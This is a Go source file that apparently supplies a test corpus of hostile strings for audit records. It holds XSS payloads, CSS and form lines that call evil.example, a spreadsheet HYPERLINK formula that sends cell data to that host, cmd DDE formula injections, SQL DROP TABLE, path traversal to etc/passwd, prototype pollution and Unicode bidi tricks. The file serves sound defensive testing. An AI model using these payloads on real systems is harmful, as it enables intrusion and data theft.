// Package hostile makes audit records as an attacker would: with everything that programs
// have been known to execute, to misread or to choke on, in every field that somebody in
// a tenant can name.
package hostile

import "strings"

// Payload is a text that tries something.
type Payload struct {
	// Name says what it tries.
	Name string
	// Literal is the text as a string of JSON. It is kept encoded, since Go cannot hold
	// everything that JSON can say: half a surrogate pair, for one.
	Literal string
}

// Mark is a text in every record, to find them all by.
const Mark = "hostile-contoso"

// Payloads gives one of each kind.
func Payloads() []Payload {
	return []Payload{
		{"script element", `"<script>__pwned='script element'</script>"`},
		{"closing tags", `"\"'></td></table></textarea></title></script><script>__pwned='closing tags'</script><!--"`},
		{"image handler", `"\"><img src=x onerror=__pwned='image handler'>"`},
		{"svg handler", `"<svg/onload=__pwned='svg handler'><details open ontoggle=__pwned='toggle'>"`},
		{"frame", `"<iframe srcdoc=\"<script>parent.__pwned='frame'</script>\"></iframe><object data=//evil.example/x></object>"`},
		{"base and meta", `"<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>"`},
		{"form", `"<form action=//evil.example/><input name=password autofocus onfocus=__pwned='form'></form>"`},
		{"style", `"</style><style>*{display:none!important;background:url(//evil.example/css)}</style>"`},
		{"style attribute", `"<p style=\"position:fixed;inset:0;background:url(//evil.example/style)\">covered</p>"`},
		{"css value", `"red;}*{display:none}url(//evil.example/value)expression(__pwned='css')"`},
		{"markdown link", `"[open me](javascript:__pwned='markdown') [and](data:text/html,<script>__pwned='data'</script>) <javascript:__pwned='auto'>"`},
		{"markdown image", `"![pixel](http://evil.example/pixel.png) [![x](//evil.example/y.png)](//evil.example)\n\n# heading\n\n---\n"`},
		{"javascript address", `"javascript:__pwned='address'//https://contoso.example/"`},
		{"data address", `"data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4="`},
		{"formula", `"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"`},
		{"formula of a command", `"+cmd|'/C calc'!A0"`},
		{"formula with minus", `"-2+3+cmd|' /C calc'!A0"`},
		{"formula with at", `"@SUM(1+1)*cmd|' /C calc'!A0"`},
		{"formula after a tab", `"\t=1+1"`},
		{"formula after a line end", `"x\r\n=1+1,\"\",=2+2"`},
		{"formula in full width", `"＝1+1"`},
		{"bidi controls", `"invoice\u202Egpj.exe\u202C \u2066isolated\u2069 \u200Fmark \u061C"`},
		{"control characters", `"a\u0000b\u0007c\u0008d\u001b[31mred\u001b[0m\u0085\u009b\u007f"`},
		{"invisible characters", `"ad\u200bm\u200di\u2060n\ufeff\u00ad\u3164\u115f\ufff9x"`},
		{"lone surrogates", `"\ud800 high \udc00 low \udbff\udbff"`},
		{"non-characters", `"\uffff\ufffe\ufdd0 \ud83d\udc69\u200d\ud83d\udcbb \ud83c\udff4\udb40\udc67"`},
		{"combining marks", `"` + "Z" + strings.Repeat(`\u0336\u0351\u030d`, 60) + `algo"`},
		{"right to left", `"مدير النظام שלום admin"`},
		{"template", `"{{constructor.constructor('__pwned=1')()}} ${__pwned='template'} {@html 1} <%= 1 %> #{1} [[x]]"`},
		{"prototype", `"__proto__"`},
		{"constructor", `"constructor.prototype.polluted"`},
		{"almost a GUID", `"11111111-2222-4333-8444-55555555555g"`},
		{"GUID in braces", `"{11111111-2222-4333-8444-555555555555}-11111111-2222-4333-8444-555555555555"`},
		{"query language", `"\" OR actor:* -(NOT target:\\\"x\\\" after:now) is:change *"`},
		{"search as address", `"?q=%3Cscript%3E&open=../../x#/%2e%2e/%00"`},
		{"path", `"..\\..\\..\\..\\etc/passwd%00.html"`},
		{"sql", `"'; DROP TABLE event; --"`},
		{"json in a string", `"{\"__proto__\":{\"polluted\":true},\"a\":[1,{\"b\":\"<script>__pwned='json'</script>\"}]}"`},
		{"broken json in a string", `"[{\"a\":\"` + strings.Repeat("[", 200) + `"`},
		{"long word", `"` + strings.Repeat("W", 5000) + `"`},
		{"long address", `"https://contoso.example/` + strings.Repeat("a%20", 1500) + `"`},
		{"many lines", `"` + strings.Repeat(`line\n`, 3000) + `"`},
		{"white space", `"   \t\u00a0\u2003\u3000 "`},
		{"nothing", `""`},
	}
}

// Large gives a text of about bytes, as a JSON string: words, or one word without a break.
func Large(bytes int, unbroken bool) string {
	word := "lorem <b>ipsum</b> "
	if unbroken {
		word = "Aa0_"
	}
	return `"` + strings.Repeat(word, bytes/len(word)) + `"`
}
